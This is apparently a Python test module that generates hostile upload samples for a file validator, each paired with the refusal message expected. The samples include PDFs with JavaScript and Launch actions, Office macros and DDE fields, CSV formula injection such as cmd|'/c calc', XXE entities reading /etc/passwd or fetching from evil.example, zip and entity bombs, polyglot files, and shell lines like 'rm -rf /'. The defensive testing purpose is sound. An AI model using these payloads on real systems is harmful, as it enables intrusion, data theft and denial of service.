"""Files that must not be kept, made here by families, each with the words that its refusal must say."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.questionnaires import making

TYPE, DAMAGED, SWOLLEN = "don’t take", "damaged", "unpacks to more"
PASSWORD, MIXED, UNREAD, OLD = "password-protected", "behind or before", "can’t be read", "old Office format"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
KINDS = (("docx", "word/document.xml"), ("xlsx", "xl/workbook.xml"), ("pptx", "ppt/presentation.xml"))


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: its family and name, what the person calls it, its bytes, and words of the refusal."""

    label: str
    name: str
    content: bytes
    says: str


def corpus() -> list[Hostile]:
    """All of them."""
    return [
        *_wrong_types(),
        *_lying_names(),
        *_old_office(),
        *_pdf_active(),
        *_pdf_hidden(),
        *_pdf_broken(),
        *_office_parts(),
        *_office_links(),
        *_office_fields(),
        *_office_archives(),
        *_entity_bombs(),
        *_pictures(),
        *_mixed(),
        *_texts(),
        *_tables(),
        *_sboms(),
    ]


def _wrong_types() -> Iterator[Hostile]:
    heads = {
        "exe": b"MZ\x90\x00" + b"\x00" * 60,
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
        "macho": b"\xcf\xfa\xed\xfe" + b"\x00" * 40,
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
        "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        "bmp": b"BM" + b"\x00" * 50,
        "tiff": b"II*\x00" + b"\x00" * 30,
        "webp": b"RIFF\x00\x00\x00\x00WEBPVP8 ",
        "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 20,
        "sevenzip": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 20,
        "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 20,
        "bzip": b"BZh91AY&SY" + b"\x00" * 20,
        "xz": b"\xfd7zXZ\x00" + b"\x00" * 20,
        "cab": b"MSCF" + b"\x00" * 40,
        "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60,
        "sqlite": b"SQLite format 3\x00" + b"\x00" * 60,
        "swf": b"CWS\x0a" + b"\x00" * 40,
        "wasm": b"\x00asm\x01\x00\x00\x00",
        "mp4": b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 20,
        "mp3": b"ID3\x03\x00\x00\x00\x00\x00\x00",
        "ico": b"\x00\x00\x01\x00\x01\x00",
        "pcap": b"\xd4\xc3\xb2\xa1" + b"\x00" * 20,
        "nul": b"\x00" * 100,
        "pickle": b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00",
        "html": b"<html><script>alert(1)</script></html>",
        "doctype": b"<!DOCTYPE html><title>x</title>",
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "xslt": b"<?xml version='1.0'?><xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'/>",
        "xhtml": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>",
        "hta": b"<hta:application id='x'/>",
        "flat odf": b"<?xml version='1.0'?><office:document xmlns:office='urn:x'/>",
        "word 2003": b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument xmlns:w='u'/>",
        "json": b'{"a": 1}',
        "json list": b"[1, 2, 3]",
        "notebook": b'{"cells": [], "nbformat": 4}',
    }
    for label, content in heads.items():
        yield Hostile(f"type: {label}", f"report.{label.split()[0]}", content, TYPE)


def _lying_names() -> Iterator[Hostile]:
    for ending in ("pdf", "png", "jpg", "docx", "xlsx", "pptx", "csv", "txt", "json", "xml", "spdx"):
        yield Hostile(f"name lies: .{ending}", f"report.{ending}", b"MZ\x90\x00\x03" + b"\x00" * 64, TYPE)
        yield Hostile(f"page called .{ending}", f"report.{ending}", b"<html onload=x><body></body></html>", TYPE)


def _old_office() -> Iterator[Hostile]:
    for ending in ("doc", "xls", "ppt", "msg", "msi"):
        yield Hostile(f"old: .{ending}", f"policy.{ending}", OLE + b"\x00" * 504, OLD)
    for ending in ("docx", "xlsx", "pptx"):
        locked = OLE + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 400
        yield Hostile(f"locked: .{ending}", f"policy.{ending}", locked, PASSWORD)


# PDF


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: Any) -> bytes:
    """A page that `change` alters."""
    made = pikepdf.new()
    made.add_blank_page()
    if change is not None:
        change(made)
    kept = io.BytesIO()
    made.save(kept, **saving)
    return kept.getvalue()


def _pdf_active() -> Iterator[Hostile]:
    kinds = {
        "JavaScript": "a script",
        "Launch": "an action",
        "SubmitForm": "an action",
        "ImportData": "an action",
        "GoToR": "an action",
        "GoToE": "other files",
        "Rendition": "sound, film",
        "Movie": "sound, film",
        "Sound": "sound, film",
        "RichMediaExecute": "sound, film",
        "GoTo3DView": "sound, film",
    }
    for kind, says in kinds.items():
        for packed in (False, True):
            mode = {"object_stream_mode": pikepdf.ObjectStreamMode.generate} if packed else {}
            how = "packed" if packed else "open"
            for place, change in (("start", _at_start), ("page", _on_page), ("link", _in_link)):
                yield Hostile(f"pdf {kind} {place} {how}", "report.pdf", pdf(partial(change, kind), **mode), says)


def _action(kind: str) -> Dictionary:
    action = Dictionary(Type=Name.Action, S=Name(f"/{kind}"))
    if kind == "JavaScript":
        action.JS = String("app.alert(1)")
    return action


def _at_start(kind: str, made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = _action(kind)


def _on_page(kind: str, made: pikepdf.Pdf) -> None:
    made.pages[0].AA = Dictionary(O=_action(kind))


def _in_link(kind: str, made: pikepdf.Pdf) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=made.make_indirect(_action(kind)))
    made.pages[0].Annots = Array([made.make_indirect(link)])


def _pdf_hidden() -> Iterator[Hostile]:
    def attached(made: pikepdf.Pdf) -> None:
        made.attachments["tool.exe"] = b"MZ"

    def names(made: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))
        made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))

    def xfa(made: pikepdf.Pdf) -> None:
        made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=[])

    def field(made: pikepdf.Pdf) -> None:
        keyed = Dictionary(FT=Name.Tx, T=String("t"), AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("x"))))
        made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(keyed)]))

    def pinned(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = Array([made.make_indirect(Dictionary(Subtype=Name.FileAttachment, Rect=[0, 0, 1, 1]))])

    def film(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = Array([made.make_indirect(Dictionary(Subtype=Name.RichMedia, Rect=[0, 0, 1, 1]))])

    def chained(made: pikepdf.Pdf) -> None:
        second = made.make_indirect(Dictionary(S=Name.JavaScript, JS=String("x")))
        made.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://a.example"), Next=second)

    def deep(made: pikepdf.Pdf) -> None:
        nest = Array([])
        for _ in range(90):
            nest = Array([nest])
        made.Root.Deep = nest

    for label, change, says in (
        ("attachment", attached, "other files"),
        ("names", names, "a script"),
        ("xfa", xfa, "XFA"),
        ("field", field, "a script"),
        ("pinned file", pinned, "other files"),
        ("film", film, "sound, film"),
        ("chained", chained, "a script"),
        ("deep", deep, SWOLLEN),
    ):
        yield Hostile(f"pdf hidden: {label}", "report.pdf", pdf(change), says)
    escaped = making.PDF.replace(b"/Catalog/Pages", b"/Catalog/OpenAction<</S/J#61vaScript/#4aS(x)>>/Pages")
    yield Hostile("pdf hidden: escaped name", "report.pdf", escaped, "a script")
    older = making.PDF.replace(b"xref", b"9 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\nxref", 1)
    yield Hostile("pdf hidden: in no table", "report.pdf", older, "a script")
    for method in (4, 6):
        locked = pdf(encryption=pikepdf.Encryption(owner="o", user="u", R=method))
        yield Hostile(f"pdf locked R{method}", "report.pdf", locked, PASSWORD)


def _pdf_broken() -> Iterator[Hostile]:
    yield Hostile("pdf head alone", "a.pdf", b"%PDF-1.7\n", DAMAGED)
    yield Hostile("pdf cut", "a.pdf", making.PDF[:90], DAMAGED)
    yield Hostile("pdf of nothing", "a.pdf", b"%PDF-1.7\n" + b"\x00" * 500 + b"%%EOF", DAMAGED)
    yield Hostile(
        "pdf without pages", "a.pdf", making.PDF.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0"), DAMAGED
    )
    yield Hostile("pdf without catalogue", "a.pdf", making.PDF.replace(b"/Root 1", b"/Toor 1"), DAMAGED)
    bomb = zlib.compress(zlib.compress(b" " * 60_000_000, 9), 9)
    stream = (
        b"%PDF-1.7\n1 0 obj\n<</Type/XRef/Size 9000000/W[1 4 2]/Root 2 0 R/Filter[/FlateDecode/FlateDecode]/Length "
        + str(len(bomb)).encode()
        + b">>stream\n"
        + bomb
        + b"\nendstream\nendobj\nstartxref\n9\n%%EOF"
    )
    yield Hostile("pdf bomb in its table", "a.pdf", stream, "“a.pdf”")


# Office


def _office_parts() -> Iterator[Hostile]:
    macro = "macros"
    inside = "other files or programs"
    outside = "links that fetch"
    for kind, main in KINDS:
        folder = main.split("/")[0]
        for part, says in (
            (f"{folder}/vbaProject.bin", macro),
            (f"{folder}/vbaData.xml", macro),
            (f"{folder}/activeX/activeX1.xml", macro),
            ("customUI/customUI.xml", macro),
            (f"{folder}/embeddings/oleObject1.bin", inside),
            (f"{folder}/embeddings/tool.exe", inside),
            (f"{folder}/media/film.mp4", inside),
            (f"{folder}/media/run.js", inside),
            (f"{folder}/webextensions/webextension1.xml", outside),
        ):
            yield Hostile(f"{kind}: {part.rpartition('/')[2]}", f"a.{kind}", making.office(main, part), says)
        for word in ("macroEnabled", "vbaProject"):
            listed = f'<Override PartName="/x" ContentType="application/vnd.ms-office.{word}"/>'
            yield Hostile(f"{kind}: type {word}", f"a.{kind}", making.office(main, types=listed), macro)
    for part in ("xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/queryTable1.xml"):
        yield Hostile(f"xlsx: {part}", "a.xlsx", making.office("xl/workbook.xml", part), outside)
    yield Hostile("xlsx: macro sheet", "a.xlsx", making.office("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), macro)


def rels(kind: str, target: str) -> str:
    """One relationship that leads outside."""
    one = f'<Relationship Id="r1" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{one}</Relationships>"


def _office_links() -> Iterator[Hostile]:
    for kind, main in KINDS:
        place = f"{main.split('/')[0]}/_rels/{main.split('/')[1]}.rels"
        for what, target, says in (
            ("image", "https://track.example/p.png", "links that fetch"),
            ("attachedTemplate", "https://evil.example/t.dotm", "other files or programs"),
            ("oleObject", "file:///c:/x", "other files or programs"),
            ("frame", "https://evil.example/", "links that fetch"),
            ("subDocument", "\\\\evil.example\\share\\x", "links that fetch"),
            ("hyperlink", "javascript:alert(1)", "links that fetch"),
            ("hyperlink", "file:///etc/passwd", "links that fetch"),
            ("hyperlink", "ms-msdt:/id", "links that fetch"),
        ):
            made = making.office(main, parts={place: rels(what, target)})
            yield Hostile(f"{kind} link {what} {target[:10]}", f"a.{kind}", made, says)


def _office_fields() -> Iterator[Hostile]:
    says = "formulas or fields"
    for field in ("DDEAUTO c:\\\\windows\\\\cmd.exe", "DDE excel x", "INCLUDETEXT http://x", "INCLUDEPICTURE http://x"):
        whole = f"<w><instrText>{field}</instrText></w>"
        cut = f"<w><instrText>{field[:3]}</instrText><r/><instrText>{field[3:]}</instrText></w>"
        simple = f'<w><fldSimple instr="{field}"/></w>'
        for how, body in (("whole", whole), ("cut", cut), ("simple", simple)):
            made = making.office("word/document.xml", parts={"word/document.xml": body})
            yield Hostile(f"docx field {field[:8]} {how}", "a.docx", made, says)
    for formula in ("cmd|'/c calc'!A0", 'WEBSERVICE("http://x")', "CALL(1,2)", "EXEC(1)", "RTD(1)", "REGISTER.ID(1)"):
        sheet = f"<worksheet><c><f>{formula.replace('<', '')}</f></c></worksheet>"
        made = making.office("xl/workbook.xml", parts={"xl/worksheets/sheet1.xml": sheet})
        yield Hostile(f"xlsx formula {formula[:8]}", "a.xlsx", made, says)
    for action, words in (("program", says), ("macro?name=x", "macros"), ("ole?verb=0", "macros")):
        slide = f'<sld><hlinkClick action="ppaction://{action}"/></sld>'
        made = making.office("ppt/presentation.xml", parts={"ppt/slides/slide1.xml": slide})
        yield Hostile(f"pptx action {action[:5]}", "a.pptx", made, words)


def _office_archives() -> Iterator[Hostile]:
    main = "word/document.xml"
    good = making.office(main)
    yield Hostile("zip: plain", "a.docx", _zip({"a.txt": b"x"}), TYPE)
    yield Hostile("zip: jar", "a.docx", _zip({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}), TYPE)
    yield Hostile("zip: apk", "a.docx", _zip({"AndroidManifest.xml": b"x"}), TYPE)
    yield Hostile("zip: odt", "a.docx", _zip({"mimetype": b"application/vnd.oasis.opendocument.text"}), TYPE)
    yield Hostile("zip: epub", "a.docx", _zip({"mimetype": b"application/epub+zip"}), TYPE)
    yield Hostile("zip: no main part", "a.docx", _zip({"[Content_Types].xml": b"<Types/>", main: b"<x/>"}), TYPE)
    yield Hostile("zip: no zip", "a.docx", b"PK\x03\x04 not a zip", DAMAGED)
    yield Hostile("zip: cut", "a.docx", good[:-30], DAMAGED)
    yield Hostile("zip: no end", "a.docx", good[: len(good) // 2], DAMAGED)
    yield Hostile("zip: climbs", "a.docx", making.office(main, "../../evil.xml"), DAMAGED)
    yield Hostile("zip: from the root", "a.docx", making.office(main, "/etc/x.xml"), DAMAGED)
    yield Hostile("zip: twice in two cases", "a.docx", making.office(main, "word/Document.xml"), DAMAGED)
    wrong = bytearray(good)
    wrong[good.index(b"word/document.xml") + 18] ^= 0xFF
    yield Hostile("zip: wrong sum", "a.docx", bytes(wrong), DAMAGED)
    flagged = bytearray(good)
    for place in _all(good, b"PK\x01\x02"):
        flagged[place + 8] |= 1
    yield Hostile("zip: encrypted part", "a.docx", bytes(flagged), PASSWORD)
    for size in (100, 300):
        bomb = making.office(main, parts={"word/a.xml": b"<a>" + b" " * (size * 1_000_000) + b"</a>"})
        yield Hostile(f"zip: bomb of {size} MB", "a.docx", bomb, SWOLLEN)
    many = {f"word/p{n}.xml": b"<a/>" for n in range(3_500)}
    yield Hostile("zip: thousands of parts", "a.docx", making.office(main, parts=many), SWOLLEN)
    nested = making.office(main)
    for _ in range(3):
        nested = making.office(main, parts={"word/embeddings/x.docx": nested})
    yield Hostile("zip: one in another in another", "a.docx", nested, SWOLLEN)
    yield Hostile(
        "zip: hostile inside",
        "a.docx",
        making.office(main, parts={"word/embeddings/x.xlsx": making.office("xl/workbook.xml", "xl/vbaProject.bin")}),
        "macros",
    )
    overlapping = bytearray(good)
    places = _all(good, b"PK\x01\x02")
    overlapping[places[-1] + 42 : places[-1] + 46] = good[places[0] + 42 : places[0] + 46]
    yield Hostile("zip: two parts in one place", "a.docx", bytes(overlapping), "“a.docx”")
    with_note = io.BytesIO(good)
    with zipfile.ZipFile(with_note, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    yield Hostile("zip: with a note", "a.docx", with_note.getvalue(), MIXED)
    deep = "<a>" * 5_000 + "</a>" * 5_000
    yield Hostile("zip: deep XML", "a.docx", making.office(main, parts={main: deep}), SWOLLEN)
    yield Hostile("zip: broken XML", "a.docx", making.office(main, parts={main: "<a><b></a>"}), DAMAGED)


def _zip(parts: dict[str, bytes]) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return kept.getvalue()


def _all(content: bytes, mark: bytes) -> list[int]:
    found, place = [], content.find(mark)
    while place >= 0:
        found.append(place)
        place = content.find(mark, place + 1)
    return found


LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
FETCHES = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>'


def _entity_bombs() -> Iterator[Hostile]:
    says = "document type"
    for label, head, use in (("laughs", LAUGHS, "&d;"), ("file", FETCHES, "&a;"), ("parameter", PARAMETER, "")):
        for kind, main in KINDS:
            made = making.office(main, parts={main: f"{head}<a>{use}</a>"})
            yield Hostile(f"entities {label} {kind}", f"a.{kind}", made, says)
        bom = f'{head}<bom xmlns="http://cyclonedx.org/schema/bom/1.5"><components>{use}</components></bom>'
        yield Hostile(f"entities {label} sbom", "a.xml", bom.encode(), says)
        yield Hostile(f"entities {label} page", "a.xml", f"{head}<a>{use}</a>".encode(), TYPE)


# Pictures


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _pictures() -> Iterator[Hostile]:
    png, jpeg = making.PNG, making.JPEG
    head = png[:8]
    size = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    data, end = chunk(b"IDAT", zlib.compress(b"\x00\x00")), chunk(b"IEND", b"")
    yield Hostile("png: a flood of pixels", "a.png", head + chunk(b"IHDR", size) + data + end, SWOLLEN)
    yield Hostile("png: no width", "a.png", head + chunk(b"IHDR", b"\x00" * 13) + data + end, DAMAGED)
    yield Hostile("png: head alone", "a.png", head, DAMAGED)
    yield Hostile("png: cut", "a.png", png[:-6], DAMAGED)
    yield Hostile("png: wrong sum", "a.png", png[:-5] + b"\x00\x00\x00\x00\x00", DAMAGED)
    yield Hostile("png: no picture", "a.png", png[:33] + end, DAMAGED)
    yield Hostile(
        "png: page in its words", "a.png", png[:33] + chunk(b"tEXt", b"x\x00<script>1</script>") + png[33:], "web page"
    )
    yield Hostile(
        "png: php in its words", "a.png", png[:33] + chunk(b"tEXt", b"x\x00<?php x ?>") + png[33:], "web page"
    )
    yield Hostile("png: endless chunk", "a.png", png[:33] + b"\xff\xff\xff\xffIDAT", DAMAGED)
    yield Hostile("jpeg: head alone", "a.jpg", b"\xff\xd8\xff", DAMAGED)
    yield Hostile("jpeg: cut", "a.jpg", jpeg[:-2], DAMAGED)
    yield Hostile("jpeg: no frame", "a.jpg", jpeg[:20] + b"\xff\xd9", DAMAGED)
    yield Hostile("jpeg: zeros", "a.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 32, DAMAGED)
    big = jpeg.replace(b"\x08\x00\x01\x00\x01", b"\x08\xff\xff\xff\xff")
    yield Hostile("jpeg: a flood of pixels", "a.jpg", big, SWOLLEN)
    note = b"\xff\xfe" + struct.pack(">H", 30) + b"<script>alert(1)</script>   "
    yield Hostile("jpeg: page in its note", "a.jpg", jpeg[:20] + note + jpeg[20:], "web page")
    yield Hostile("jpeg: svg behind", "a.jpg", jpeg + b"<svg onload=x>", "web page")


def _mixed() -> Iterator[Hostile]:
    archive = _zip({"evil.class": b"x"})
    for label, content in (("pdf", making.PDF), ("png", making.PNG), ("jpeg", making.JPEG)):
        yield Hostile(f"mixed: {label} and zip", f"a.{label}", content + archive, MIXED)
        yield Hostile(f"mixed: {label} and exe", f"a.{label}", content + b"MZ\x90\x00" + b"\x01" * 200, MIXED)
        yield Hostile(f"mixed: {label} and rar", f"a.{label}", content + b"Rar!\x1a\x07\x00" + b"\x01" * 200, MIXED)
    yield Hostile("mixed: zip and docx", "a.docx", making.office("word/document.xml") + b"\x01" * 30, MIXED)
    yield Hostile("mixed: junk then pdf", "a.pdf", b"\x01\x02junk\n" + making.PDF, TYPE)
    yield Hostile("mixed: page then pdf", "a.pdf", b"<html>" + making.PDF, TYPE)
    yield Hostile(
        "mixed: page in the head of a pdf", "a.pdf", making.PDF.replace(b"1.7\n", b"1.7\n%<script>x</script>\n"), MIXED
    )
    yield Hostile("mixed: gif and script", "a.png", b"GIF89a/*" + b"\x00" * 9 + b"*/=1;alert(1)", TYPE)


# Text


def _texts() -> Iterator[Hostile]:
    for label, text in {
        "shell": "#!/bin/sh\nrm -rf /",
        "python": "#!/usr/bin/env python3\nimport os",
        "batch": "@echo off\r\nformat c:",
        "postscript": "%!PS-Adobe-3.0\n(x) print",
        "rtf": "{\\rtf1\\ansi{\\object\\objocx}}",
        "mht": "MIME-Version: 1.0\nContent-Type: multipart/related",
        "letter": "Return-Path: <a@b.example>\nSubject: x",
        "shortcut": "[InternetShortcut]\nURL=https://evil.example",
        "autorun": "[autorun]\nopen=x.exe",
        "registry": "Windows Registry Editor Version 5.00\n",
        "sylk": 'ID;PWXL;N;E\nC;X1;Y1;EEXEC("calc")',
        "key": "-----BEGIN OPENSSH PRIVATE KEY-----\nabc",
        "calendar": "BEGIN:VCALENDAR\nATTACH:http://x",
        "powershell": "powershell -enc AAAA",
        "vbs": 'CreateObject("WScript.Shell").Run "calc"',
        "control": "hello\x07\x1b[2Jworld",
    }.items():
        yield Hostile(f"text: {label}", "notes.txt", text.encode(), TYPE)
    for label, text in {
        "script": "hello <script>alert(1)</script>",
        "spaced": "hello < script >alert(1)",
        "frame": "notes <iframe src=//evil.example>",
        "image": "notes <img src=x onerror=alert(1)>",
        "link": "click javascript:alert(1)",
        "data": "see data:text/html,<b>x",
        "utf-16": "hello <script>alert(1)</script>",
        "php": "x <?php system('x'); ?>",
        "asp": "x <% eval(1) %>",
    }.items():
        content = text.encode("utf-16") if label == "utf-16" else text.encode()
        yield Hostile(f"text with code: {label}", "notes.txt", content, "web page")
    yield Hostile("text: spaces alone", "notes.txt", b" \n\t\n", DAMAGED)
    yield Hostile("text: one endless line", "notes.txt", b"a" * 2_000_000, SWOLLEN)


def _tables() -> Iterator[Hostile]:
    for cell in (
        "=1+1",
        '=HYPERLINK("http://evil.example")',
        "=cmd|'/c calc'!A0",
        "@SUM(1+1)",
        "+cmd|'/c calc'!A0",
        "-cmd|'/c calc'!A0",
        "-2+3+cmd|'/c calc'!D2",
        '" =1+1"',
        "'=1+1",
        '=IMPORTXML("http://x")',
        "=A1&A2",
        "= WEBSERVICE(1)",
    ):
        for how, text in (("first", f"{cell},b\n"), ("later", f"a,b\n1,{cell}\n"), ("semicolon", f"a;b\n1;{cell}\n")):
            yield Hostile(f"table {how}: {cell[:12]}", "losses.csv", text.encode(), "formulas")


# Software bills of materials

BOM = {
    "bomFormat": "CycloneDX",
    "specVersion": "1.6",
    "version": 1,
    "metadata": {"timestamp": "2026-11-03T09:00:00Z"},
    "components": [{"type": "library", "name": "openssl", "version": "3.0"}],
}
SPDX = {
    "spdxVersion": "SPDX-2.3",
    "dataLicense": "CC0-1.0",
    "SPDXID": "SPDXRef-DOCUMENT",
    "name": "pump",
    "documentNamespace": "https://solace.example/pump",
    "creationInfo": {"created": "2026-11-03T09:00:00Z", "creators": ["Tool: syft-1.2"]},
    "packages": [{"name": "openssl", "SPDXID": "SPDXRef-a", "downloadLocation": "NOASSERTION"}],
}
TAGGED = """SPDXVersion: SPDX-2.3
DataLicense: CC0-1.0
SPDXID: SPDXRef-DOCUMENT
DocumentName: pump
DocumentNamespace: https://solace.example/pump
Creator: Tool: syft-1.2
Created: 2026-11-03T09:00:00Z

PackageName: openssl
SPDXID: SPDXRef-openssl
PackageVersion: 3.0
PackageDownloadLocation: NOASSERTION
FilesAnalyzed: false
"""
XML_BOM = """<?xml version="1.0"?><bom xmlns="http://cyclonedx.org/schema/bom/1.5" version="1"><metadata>
<timestamp>2026-11-03T09:00:00Z</timestamp><tools><tool><name>syft</name><version>1.2</version></tool></tools>
<component type="firmware"><name>Pump</name><version>3</version></component></metadata>
<components><component type="library"><name>openssl</name><version>3.0</version></component></components></bom>"""


def _sboms() -> Iterator[Hostile]:
    def bom(**changed: object) -> bytes:
        return json.dumps(BOM | changed).encode()

    def spdx(**changed: object) -> bytes:
        return json.dumps(SPDX | changed).encode()

    yield Hostile("sbom: breaks off", "sbom.json", bom()[:-20], UNREAD)
    yield Hostile("sbom: unknown version", "sbom.json", bom(specVersion="9.9"), "9.9")
    yield Hostile("sbom: no version", "sbom.json", bom(specVersion=None), UNREAD)
    yield Hostile("sbom: nothing listed", "sbom.json", bom(components=[]), "lists no component")
    yield Hostile("sbom: wrong part", "sbom.json", bom(components=[{"type": "spaceship", "name": "x"}]), UNREAD)
    yield Hostile("sbom: no list", "sbom.json", bom(components="openssl"), UNREAD)
    yield Hostile("sbom: wrong time", "sbom.json", bom(metadata={"timestamp": "yesterday"}), UNREAD)
    yield Hostile("sbom: another format", "sbom.json", bom(bomFormat="Swid"), UNREAD)
    yield Hostile(
        "sbom: deep", "sbom.json", b'{"bomFormat": "CycloneDX", "x": ' + b"[" * 400 + b"]" * 400 + b"}", SWOLLEN
    )
    yield Hostile("sbom: very deep", "sbom.json", b'{"bomFormat": "CycloneDX", "x": ' + b"[" * 200_000, SWOLLEN)
    yield Hostile("sbom: xml cut", "sbom.xml", XML_BOM[:-30].encode(), UNREAD)
    yield Hostile("sbom: xml version", "sbom.xml", XML_BOM.replace("bom/1.5", "bom/7.5").encode(), UNREAD)
    yield Hostile(
        "sbom: xml empty", "sbom.xml", b'<bom xmlns="http://cyclonedx.org/schema/bom/1.5"/>', "lists no component"
    )
    deep = "<a>" * 500 + "</a>" * 500
    deep = f'<bom xmlns="http://cyclonedx.org/schema/bom/1.5">{deep}</bom>'
    yield Hostile("sbom: xml deep", "sbom.xml", deep.encode(), SWOLLEN)
    yield Hostile("sbom: spdx 3", "sbom.json", b'{"@context": "https://spdx.org/rdf/3.0.1", "@graph": []}', UNREAD)
    yield Hostile("sbom: spdx version", "sbom.json", spdx(spdxVersion="SPDX-1.0"), UNREAD)
    yield Hostile("sbom: spdx without making", "sbom.json", spdx(creationInfo=None), UNREAD)
    yield Hostile("sbom: spdx empty", "sbom.json", spdx(packages=[]), "lists no component")
    yield Hostile("sbom: spdx wrong parts", "sbom.json", spdx(packages=[{"name": 5}]), UNREAD)
    yield Hostile("sbom: tags without time", "sbom.spdx", TAGGED.replace("Created:", "Made:").encode(), UNREAD)
    yield Hostile("sbom: tags without version", "sbom.spdx", TAGGED.replace("SPDX-2.3", "").encode(), UNREAD)
    yield Hostile("sbom: tags of nothing", "sbom.spdx", TAGGED.split("PackageName")[0].encode(), "lists no component")
